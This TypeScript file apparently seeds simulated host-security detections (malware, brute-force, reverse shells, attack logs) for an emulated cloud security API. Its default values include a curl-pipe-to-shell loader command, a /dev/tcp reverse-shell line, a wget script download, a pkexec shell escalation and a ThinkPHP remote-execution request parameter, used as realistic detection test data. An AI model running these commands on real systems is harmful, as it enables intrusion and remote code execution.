import { formatDateTime } from "../../platform/clock";
import { check } from "../../control/router";
import { loginIsAllowed } from "./login-model";
import { K, rec, type ImpactedHostDoc, type MalwareDoc, type VulDoc } from "./records";
import { matchBashRule, matchPrivilegeRule, matchReverseShellRule } from "./rules-model";
import { accounts, components, historyAccounts, openPorts, processes } from "./seed-assets";
import { host, isWindows, num, oneOfStr, randomPublicIp, str, timeOf, type Seeder } from "./seed-input";
import { docs, hex, key, nextId } from "./store";

export { timeOf, type Body } from "./seed-input";

/*
 * What agents would report, seeded by the control API (POST /_tclocal/yunjing/machines/{uuid}/<kind>). Bodies
 * use the API's own member names; every member may be omitted and gets a realistic value. The record's time
 * member (FindTime, CreateTime, LoginTime, …) is the detection time: "2006-01-02 15:04:05" (UTC+8) or epoch
 * seconds; it defaults to the emulator's now.
 */

const malwares: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "FindTime", ctx.now());
  const Md5 = str(b, "Md5", hex(32));
  const trusted = await docs<{ md5: string }>(ctx, "trusted-md5").has(Md5);
  const Id = await nextId(ctx, K.malware);
  const doc: MalwareDoc = {
    Id,
    ...host(m),
    Quuid: m.quuid,
    FilePath: str(b, "FilePath", isWindows(m) ? "C:\\Windows\\Temp\\svchost.exe" : "/tmp/.X25-unix/kdevtmpfsi"),
    Description: str(b, "Description", isWindows(m) ? "Win32.Trojan.Agent (远控木马)" : "Linux.Trojan.Miner (挖矿木马)"),
    Md5,
    Status: oneOfStr(b, "Status", ["UN_OPERATED", "SEGREGATED", "TRUSTED"], trusted ? "TRUSTED" : "UN_OPERATED"),
    FileCreateTime: formatDateTime(timeOf(b, "FileCreateTime", at - 3600_000)),
    ModifyTime: formatDateTime(timeOf(b, "ModifyTime", at - 3600_000)),
    at,
    busyAs: null,
    busyUntil: 0,
  };
  await rec.malwares(ctx).insert(key(Id), doc);
  return { Id, record: doc };
};

const bruteAttacks: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "CreateTime", ctx.now());
  const Id = await nextId(ctx, K.bruteAttack);
  const status = oneOfStr(b, "Status", ["BRUTEATTACK_FAIL_ACCOUNT", "BRUTEATTACK_FAIL_NOACCOUNT", "BRUTEATTACK_SUCCESS"], "BRUTEATTACK_FAIL_ACCOUNT");
  const doc = {
    Id,
    ...host(m),
    Quuid: m.quuid,
    Status: status,
    UserName: str(b, "UserName", "root"),
    Country: num(b, "Country", 1),
    Province: num(b, "Province", 19),
    City: num(b, "City", 233),
    SrcIp: str(b, "SrcIp", randomPublicIp()),
    Count: num(b, "Count", 57),
    CreateTime: formatDateTime(at),
    IsProVersion: m.pro !== null,
    // Pro hosts block the source of a failed attack; Basic hosts only report it.
    BanStatus: str(b, "BanStatus", m.pro !== null && status !== "BRUTEATTACK_SUCCESS" ? "1" : "0"),
    at,
  };
  await rec.bruteAttacks(ctx).insert(key(Id), doc);
  return { Id, record: doc };
};

const nonlocalLogins: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "LoginTime", ctx.now());
  const Id = await nextId(ctx, K.nonlocalLogin);
  const place = { Country: num(b, "Country", 1), Province: num(b, "Province", 5), City: num(b, "City", 61) };
  const UserName = str(b, "UserName", "root");
  const SrcIp = str(b, "SrcIp", randomPublicIp());
  const allowed = await loginIsAllowed(ctx, m, { UserName, SrcIp, ...place }, at);
  const doc = {
    Id,
    ...host(m),
    Quuid: m.quuid,
    Status: oneOfStr(b, "Status", ["NON_LOCAL_LOGIN", "NORMAL_LOGIN"], allowed ? "NORMAL_LOGIN" : "NON_LOCAL_LOGIN"),
    UserName,
    ...place,
    SrcIp,
    LoginTime: formatDateTime(at),
    at,
  };
  await rec.nonlocalLogins(ctx).insert(key(Id), doc);
  return { Id, record: doc };
};

const vuls: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "LastScanTime", ctx.now());
  const catalog = rec.vuls(ctx);
  const name = b.VulName === undefined ? undefined : str(b, "VulName", "");
  let vul: VulDoc | undefined =
    b.VulId !== undefined ? await catalog.get(key(num(b, "VulId", 0))) : name ? (await catalog.all()).find((v) => v.VulName === name) : undefined;
  if (!vul) {
    const VulId = b.VulId !== undefined ? num(b, "VulId", 0) : await nextId(ctx, K.vul, 1001);
    check(Number.isInteger(VulId) && VulId > 0, "VulId must be a positive integer");
    vul = {
      VulId,
      VulName: name ?? "OpenSSH 用户枚举漏洞(CVE-2018-15473)",
      VulLevel: oneOfStr(b, "VulLevel", ["HIGH", "MIDDLE", "LOW", "NOTICE"], "MIDDLE"),
      VulType: oneOfStr(b, "VulType", ["WEB", "SYSTEM", "BASELINE"], "SYSTEM"),
      Description: str(b, "Description", "OpenSSH 7.7 及之前版本存在用户枚举漏洞，攻击者可据此判断服务器上的用户名是否存在。"),
      RepairPlan: str(b, "RepairPlan", "升级 OpenSSH 至 7.8 或以上版本：yum update openssh"),
      CveId: str(b, "CveId", "CVE-2018-15473"),
      Reference: str(b, "Reference", "https://nvd.nist.gov/vuln/detail/CVE-2018-15473"),
    };
    await catalog.put(key(vul.VulId), vul);
  }
  const hosts = rec.impactedHosts(ctx);
  const VulStatus = oneOfStr(b, "VulStatus", ["UN_OPERATED", "FIXED"], "UN_OPERATED") as "UN_OPERATED" | "FIXED";
  const existing = (await hosts.all()).find((h) => h.VulId === vul!.VulId && h.Uuid === m.uuid);
  if (existing) {
    const again: ImpactedHostDoc = { ...existing, VulStatus, lastScanAt: at, rescanAt: null, patchedAt: VulStatus === "FIXED" ? at : null, at };
    await hosts.update(key(existing.Id), again);
    return { Id: existing.Id, record: { vul, impactedHost: again } };
  }
  const Id = await nextId(ctx, K.impactedHost);
  // A host found already fixed stays fixed when rescanned.
  const doc: ImpactedHostDoc = { Id, VulId: vul.VulId, ...host(m), Quuid: m.quuid, VulStatus, lastScanAt: at, rescanAt: null, patchedAt: VulStatus === "FIXED" ? at : null, at };
  await hosts.insert(key(Id), doc);
  return { Id, record: { vul, impactedHost: doc } };
};

const maliciousRequests: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "CreateTime", ctx.now());
  const Id = await nextId(ctx, K.maliciousRequest);
  const Domain = str(b, "Domain", "xmr.pool.minergate.com");
  const ProcessName = str(b, "ProcessName", "wget");
  const doc = {
    Id,
    ...host(m),
    Domain,
    Count: num(b, "Count", 12),
    ProcessName,
    Status: oneOfStr(b, "Status", ["UN_OPERATED", "TRUSTED", "UN_TRUSTED"], "UN_OPERATED"),
    Description: str(b, "Description", "矿池域名，主机可能已被植入挖矿木马"),
    Reference: str(b, "Reference", `https://x.threatbook.cn/domain/${Domain}`),
    CreateTime: formatDateTime(at),
    MergeTime: formatDateTime(timeOf(b, "MergeTime", at)),
    ProcessMd5: str(b, "ProcessMd5", hex(32)),
    CmdLine: str(b, "CmdLine", `${ProcessName} http://${Domain}/x.sh`),
    Pid: num(b, "Pid", 5577),
    at,
  };
  await rec.maliciousRequests(ctx).insert(key(Id), doc);
  return { Id, record: doc };
};

const bashEvents: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "CreateTime", ctx.now());
  const BashCmd = str(b, "BashCmd", "curl -fsSL http://185.10.68.147/ldr.sh | sh");
  const rule = await matchBashRule(ctx, m.uuid, BashCmd);
  const Id = await nextId(ctx, K.bashEvent);
  const doc = {
    Id,
    Uuid: m.uuid,
    Quuid: m.quuid,
    Hostip: m.ip,
    User: str(b, "User", "root"),
    Platform: num(b, "Platform", isWindows(m) ? 1 : 4),
    BashCmd,
    RuleId: rule?.Id ?? 0,
    RuleName: rule?.Name ?? "",
    RuleLevel: rule?.Level ?? 0,
    Status: num(b, "Status", 0),
    CreateTime: formatDateTime(at),
    MachineName: m.name,
    at,
  };
  await rec.bashEvents(ctx).insert(key(Id), doc);
  return { Id, record: doc };
};

const privilegeEvents: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "CreateTime", ctx.now());
  const ProcessName = str(b, "ProcessName", "pkexec");
  const rule = await matchPrivilegeRule(ctx, m.uuid, ProcessName);
  if (rule) return { Id: null, suppressedByRule: rule.Id };
  const Id = await nextId(ctx, K.privilegeEvent);
  const doc = {
    Id,
    Uuid: m.uuid,
    Quuid: m.quuid,
    Hostip: m.ip,
    ProcessName,
    FullPath: str(b, "FullPath", `/usr/bin/${ProcessName}`),
    CmdLine: str(b, "CmdLine", `${ProcessName} /bin/sh`),
    UserName: str(b, "UserName", "root"),
    UserGroup: str(b, "UserGroup", "ubuntu"),
    ProcFilePrivilege: str(b, "ProcFilePrivilege", "-rwsr-xr-x"),
    ParentProcName: str(b, "ParentProcName", "bash"),
    ParentProcUser: str(b, "ParentProcUser", "ubuntu"),
    ParentProcGroup: str(b, "ParentProcGroup", "ubuntu"),
    ParentProcPath: str(b, "ParentProcPath", "/bin/bash"),
    ProcTree: str(b, "ProcTree", `${ProcessName}(root),bash(ubuntu),sshd(ubuntu),sshd(root),systemd(root)`),
    Status: num(b, "Status", 0),
    CreateTime: formatDateTime(at),
    MachineName: m.name,
    at,
  };
  await rec.privilegeEvents(ctx).insert(key(Id), doc);
  return { Id, record: doc };
};

const reverseShells: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "CreateTime", ctx.now());
  const ProcessName = str(b, "ProcessName", "bash");
  const DstIp = str(b, "DstIp", randomPublicIp());
  const DstPort = num(b, "DstPort", 8080);
  const rule = await matchReverseShellRule(ctx, m.uuid, { ProcessName, DstIp, DstPort });
  if (rule) return { Id: null, suppressedByRule: rule.Id };
  const Id = await nextId(ctx, K.reverseShell);
  const doc = {
    Id,
    Uuid: m.uuid,
    Quuid: m.quuid,
    Hostip: m.ip,
    DstIp,
    DstPort,
    ProcessName,
    FullPath: str(b, "FullPath", `/bin/${ProcessName}`),
    CmdLine: str(b, "CmdLine", `${ProcessName} -i >& /dev/tcp/${DstIp}/${DstPort} 0>&1`),
    UserName: str(b, "UserName", "root"),
    UserGroup: str(b, "UserGroup", "root"),
    ParentProcName: str(b, "ParentProcName", "bash"),
    ParentProcUser: str(b, "ParentProcUser", "root"),
    ParentProcGroup: str(b, "ParentProcGroup", "root"),
    ParentProcPath: str(b, "ParentProcPath", "/bin/bash"),
    Status: num(b, "Status", 0),
    CreateTime: formatDateTime(at),
    MachineName: m.name,
    ProcTree: str(b, "ProcTree", `${ProcessName}(root),bash(root),sshd(root),systemd(root)`),
    at,
  };
  await rec.reverseShells(ctx).insert(key(Id), doc);
  return { Id, record: doc };
};

const attackLogs: Seeder = async (ctx, m, b) => {
  const at = timeOf(b, "CreatedAt", ctx.now());
  const Id = await nextId(ctx, K.attackLog);
  const HttpMethod = oneOfStr(b, "HttpMethod", ["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS"], "POST");
  const DstPort = num(b, "DstPort", 80);
  const HttpCgi = str(b, "HttpCgi", "/index.php");
  const HttpParam = str(b, "HttpParam", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array");
  const HttpHost = str(b, "HttpHost", `${m.wanIp || m.ip}:${DstPort}`);
  const HttpUserAgent = str(b, "HttpUserAgent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36");
  const doc = {
    Id,
    Uuid: m.uuid,
    Quuid: m.quuid,
    SrcIp: str(b, "SrcIp", randomPublicIp()),
    SrcPort: num(b, "SrcPort", 30000 + Math.floor(Math.random() * 30000)),
    HttpMethod,
    HttpCgi,
    HttpParam,
    VulType: str(b, "VulType", "thinkphp"),
    CreatedAt: formatDateTime(at),
    MachineIp: m.ip,
    MachineName: m.name,
    DstIp: str(b, "DstIp", m.wanIp || m.ip),
    DstPort,
    HttpContent: str(b, "HttpContent", ""),
    HttpHost,
    HttpHead: str(b, "HttpHead", `${HttpMethod} ${HttpCgi}?${HttpParam} HTTP/1.1\nHost: ${HttpHost}\nUser-Agent: ${HttpUserAgent}\n\n`),
    HttpUserAgent,
    HttpReferer: str(b, "HttpReferer", ""),
    at,
  };
  await rec.attackLogs(ctx).insert(key(Id), doc);
  return { Id, record: doc };
};

/** The detection kinds the control API seeds, by route segment. */
export const SEEDERS: Readonly<Record<string, { what: string; seed: Seeder }>> = {
  malwares: { what: "a malware file (FilePath, Description, Md5, Status, FindTime, …)", seed: malwares },
  "brute-attacks": { what: "a brute-force attack (SrcIp, UserName, Status BRUTEATTACK_*, Count, CreateTime, …)", seed: bruteAttacks },
  "nonlocal-logins": { what: "a login (SrcIp, UserName, Country/Province/City, LoginTime); allowlisted or usual places make it NORMAL_LOGIN", seed: nonlocalLogins },
  vuls: { what: "a vulnerability impacting the host (VulId or VulName, VulLevel, VulType, CveId, VulStatus, LastScanTime, …)", seed: vuls },
  "open-ports": { what: "an open port (Port, ProcessName, Pid)", seed: openPorts },
  processes: { what: "a running process (ProcessName, Pid, Ppid, Username, Platform, FullPath)", seed: processes },
  accounts: { what: "a system account (Username, Groups, Privilege ORDINARY|SUPPER, LastLoginTime)", seed: accounts },
  "history-accounts": { what: "an account change (Username, ModifyType CREATE|MODIFY|DELETE, ModifyTime)", seed: historyAccounts },
  components: { what: "an installed component (ComponentName, ComponentType WEB|SYSTEM, ComponentVersion)", seed: components },
  "malicious-requests": { what: "a malicious domain request (Domain, ProcessName, CmdLine, Count, …)", seed: maliciousRequests },
  "bash-events": { what: "an executed command (BashCmd, User); matched against the bash rules", seed: bashEvents },
  "privilege-events": { what: "a privilege escalation (ProcessName, …); suppressed by a matching privilege rule", seed: privilegeEvents },
  "reverse-shells": { what: "a reverse shell (ProcessName, DstIp, DstPort, …); suppressed by a matching reverse-shell rule", seed: reverseShells },
  "attack-logs": { what: "a network attack (SrcIp, HttpMethod, HttpCgi, HttpParam, VulType, CreatedAt, …)", seed: attackLogs },
};
